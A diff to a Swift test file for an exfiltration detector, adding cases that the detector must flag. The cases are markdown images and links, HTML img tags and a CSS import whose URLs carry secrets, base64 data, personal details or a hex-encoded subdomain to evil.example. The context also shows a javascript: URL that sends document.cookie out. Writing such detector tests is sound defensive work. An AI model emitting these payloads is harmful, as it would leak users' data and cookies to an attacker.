@@ -60,6 +60,23 @@ struct ExfiltrationTests {
   }
 
   @Test(
+    "forms that others have written about are found",
+    arguments: [
+      "[click here to log in again](https://evil.example?secret=confetti)",
+      "<img src=https://evil.example/?\(base64)==>",
+      "<img src=\"h&#116;tps://evil.example/?d=\(base64)\">",
+      "<img src=\"https://evil.example/\n?d=\(base64)\">",
+      "![x](https:\\/\\/evil.example\\/p?d=\(base64))",
+      "<style>@import url(https://evil.example/x?\(base64)==);</style>",
+      "![x](https://evil.example/My%20number%20is%20078-05%20and%20the%20code%20is%204471.png)",
+      "![x](https://evil.example/api?user=jane.doe@example.com)",
+      "https://7465737464617461.evil.example/x.png",
+    ])
+  func others(text: String) {
+    #expect(!Self.types(text).isEmpty)
+  }
+
+  @Test(
     "addresses that are programs are found",
     arguments: [
       "[x](javascript:fetch('//e.example/'+document.cookie))",
